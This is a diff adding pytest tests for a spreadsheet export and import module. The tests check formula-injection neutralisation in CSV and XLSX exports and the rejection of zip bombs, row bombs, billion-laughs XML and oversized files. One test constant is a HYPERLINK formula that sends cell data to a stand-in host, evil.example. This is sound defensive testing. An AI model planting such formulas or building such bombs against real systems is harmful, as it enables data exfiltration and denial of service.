@@ -1,11 +1,18 @@
 """Pure logic of the power lists: codes, the version diff, the Excel form."""
 
+import csv
 import io
+import os
+import re
+import zipfile
 
 import pytest
 from openpyxl import Workbook, load_workbook
+from openpyxl.worksheet._read_only import ReadOnlyWorksheet
 
-from powerlists import codes, diff, xlsx
+from powerlists import codes, diff, xlsx, xlsx_limits
+
+from . import xlsx_bombs
 
 
 # -- codes ---------------------------------------------------------------------
@@ -114,12 +121,6 @@ def test_template_has_the_sheets_and_headers_and_reads_as_empty():
     assert parsed.items == [] and parsed.errors == []
 
 
-def test_not_an_xlsx_is_a_clear_error():
-    with pytest.raises(xlsx.WorkbookError) as caught:
-        xlsx.read(b"%PDF-1.4 not a spreadsheet")
-    assert "不是有效的 Excel（.xlsx）文件" in str(caught.value)
-
-
 def test_missing_sheet_and_wrong_headers_are_reported():
     workbook = Workbook()
     workbook.active.title = "Sheet1"
@@ -187,3 +188,135 @@ def test_csv_has_a_bom_and_numbered_parts():
     text = xlsx.write_csv([_item("XK00001000")]).decode("utf-8")
     assert text.startswith("\ufeff事项编码,事项名称")
     assert "1. 《中华人民共和国食品安全法》第三十五条：国家对食品生产经营实行许可制度。" in text
+
+
+# -- formula injection in exports --------------------------------------------------
+
+LIVE_FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
+# Remarks a user may type, and how each appears in the CSV export.
+CSV_CELLS = [
+    (LIVE_FORMULA, "'" + LIVE_FORMULA),
+    ("+86 023-71438315", "'+86 023-71438315"),
+    ("-5 个工作日内补正", "'-5 个工作日内补正"),
+    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("'引号开头的备注", "''引号开头的备注"),
+    ("'=1+1", "''=1+1"),
+    ("备注中的 =1+1 与 -1", "备注中的 =1+1 与 -1"),
+]
+
+
+def _sheet_parts(data):
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
+
+
+def test_xlsx_export_writes_formula_like_text_as_text_and_reads_it_back():
+    # Leading tab/CR are left out: the reader strips cells, as the admin forms strip what editors type.
+    texts = [text for text, _cell in CSV_CELLS if not text.startswith(("\t", "\r"))]
+    items = [_item(f"XK{n:05d}000", remarks=text, name=text) for n, text in enumerate(texts, 1)]
+    items[0]["steps"][0]["content"] = LIVE_FORMULA  # child sheets too
+    data = xlsx.write(items)
+    assert not any(re.search(r"<f[ >]", xml) for xml in _sheet_parts(data))  # not one formula
+    sheet = load_workbook(io.BytesIO(data))["权力事项"]
+    remarks = [row[13] for row in sheet.iter_rows(min_row=2)]
+    assert [(c.value, c.data_type) for c in remarks] == [(text, "s") for text in texts]
+    # Marked as text like Excel marks text typed after "'": editing the cell keeps it text.
+    assert [c.quotePrefix for c in remarks] == [text.startswith(("=", "+", "-", "@")) for text in texts]
+    parsed = xlsx.read(data, department="南川区市场监督管理局", department_names=NAMES)
+    assert parsed.errors == [] and parsed.items == items
+
+
+def test_csv_export_neutralises_formulas_and_one_leading_quote_less_is_the_text():
+    items = [_item(f"XK{n:05d}000", remarks=text) for n, text in enumerate([t for t, _c in CSV_CELLS], 1)]
+    rows = list(csv.reader(io.StringIO(xlsx.write_csv(items).decode("utf-8-sig"), newline="")))
+    assert [row[13] for row in rows[1:]] == [cell for _t, cell in CSV_CELLS]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+    # The rule is reversible: every cell starting with "'" got it from the export.
+    assert [row[13][1:] if row[13].startswith("'") else row[13] for row in rows[1:]] == [t for t, _c in CSV_CELLS]
+
+
+# -- spreadsheet bombs and files that are not workbooks ---------------------------
+
+def _refusal(data):
+    with pytest.raises(xlsx.WorkbookError) as caught:
+        xlsx.read(data, department_names=NAMES)
+    return str(caught.value)
+
+
+def test_a_sheet_declaring_a_million_rows_is_refused_before_any_row_is_read(monkeypatch):
+    streamed = []
+    real = ReadOnlyWorksheet._cells_by_row
+
+    def spy(sheet, *args, **kwargs):
+        streamed.append(sheet.title)
+        return real(sheet, *args, **kwargs)
+
+    monkeypatch.setattr(ReadOnlyWorksheet, "_cells_by_row", spy)
+    assert _refusal(xlsx_bombs.row_bomb()) == (
+        "「权力事项」：工作表的数据范围为 A1:N1048576，共 1048576 行，超过上限 20000 行。"
+        "请删除表格末尾多余的行（包括只设置了格式的空行）后重新导入。")
+    assert "权力事项" not in streamed
+
+
+def test_a_sheet_hiding_its_rows_behind_a_small_dimension_is_refused_on_the_rows_read():
+    assert _refusal(xlsx_bombs.undeclared_row_bomb()) == (
+        "「权力事项」：工作表超过上限 20000 行：第 20000 行以下还有行。"
+        "请删除表格末尾多余的行（包括只设置了格式的空行）后重新导入。")
+
+
+def test_rows_past_a_dimension_declared_too_small_are_still_read():
+    items = [_item("XK00001000"), _item("XK00002000")]
+    data = xlsx_bombs.rewrite(xlsx.write(items), "xl/worksheets/sheet1.xml",
+                              lambda part: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1"', part))
+    parsed = xlsx.read(data, department_names=NAMES)
+    assert parsed.errors == [] and parsed.items == items
+
+
+def test_zip_bombs_are_refused_from_the_zip_directory():
+    assert re.fullmatch(r"文件中有内容的压缩比异常（\d+:1，上限 100:1），疑似压缩炸弹，已拒绝读取。",
+                        _refusal(xlsx_bombs.zip_bomb(10 * 1024 * 1024)))
+    assert _refusal(xlsx_bombs.zip_bomb(xlsx_limits.MAX_UNPACKED_BYTES + 1024 * 1024)) == (
+        "文件解压后为 51.0 MB，超过上限 50.0 MB，疑似压缩炸弹，已拒绝读取。")
+
+
+def _zip(**parts):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        for name, content in parts.items():
+            archive.writestr(name.replace("__", "/"), content)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("build, message", [
+    (lambda: b"%PDF-1.4 not a spreadsheet", xlsx_limits.NOT_XLSX),
+    (lambda: _zip(readme__txt="hello"), "文件是 zip 压缩包，但不是 Excel 工作簿（缺少 [Content_Types].xml、xl/workbook.xml）。"
+                                         + xlsx_limits.SAVE_AS_XLSX),
+    (lambda: _zip(**{"[Content_Types].xml": "<Types/>", "word__document.xml": "<document/>"}),
+     "文件是 zip 压缩包，但不是 Excel 工作簿（缺少 xl/workbook.xml）。" + xlsx_limits.SAVE_AS_XLSX),
+    (lambda: xlsx.template()[:-200], xlsx_limits.NOT_XLSX),  # cut short
+    (xlsx_bombs.billion_laughs, xlsx_limits.NOT_XLSX),
+    (lambda: b"PK" + b"\0" * 6 * 1024 * 1024, "文件大小为 6.0 MB，超过上限 5.0 MB。"),
+    (lambda: xlsx_bombs.many_cells(xlsx_limits.MAX_ROWS, 1),
+     "文件中有工作表超过上限 20000 行，请删除表格末尾多余的行（包括只设置了格式的空行）后重新导入。"),
+    (lambda: xlsx_bombs.many_cells(1, xlsx_limits.MAX_CELLS_PER_ROW + 1),
+     "文件中有一行超过 16384 个单元格（Excel 的列数上限），不是有效的工作表。"),
+    (lambda: xlsx_bombs.many_cells(100, xlsx_limits.MAX_XML_ELEMENTS // 100),
+     "文件内容过于庞大（XML 元素超过 1,000,000 个），已拒绝读取。请删除多余的行、列和格式后重新导入。"),
+], ids=["not-a-zip", "zip-of-text", "zip-of-docx", "truncated", "entities", "too-large", "rows", "cells", "elements"])
+def test_files_that_are_not_workbooks_or_too_big_are_refused_in_chinese(build, message):
+    assert _refusal(build()) == message
+
+
+def test_parts_that_are_not_xml_are_left_alone():
+    items = [_item("XK00001000")]
+    data = xlsx_bombs.rewrite(xlsx.write(items), "", None, add={
+        "xl/media/image1.png": os.urandom(200 * 1024), "xl/printerSettings/printerSettings1.bin": b"\0" * 1024, "xl/": b""})
+    parsed = xlsx.read(data, department_names=NAMES)
+    assert parsed.errors == [] and parsed.items == items
+
+
+def test_a_sheet_of_exactly_the_row_limit_is_read():
+    parsed = xlsx.read(xlsx_bombs.many_cells(xlsx_limits.MAX_ROWS - 1, 1), department_names=NAMES)
+    assert parsed.items == [] and parsed.errors == []
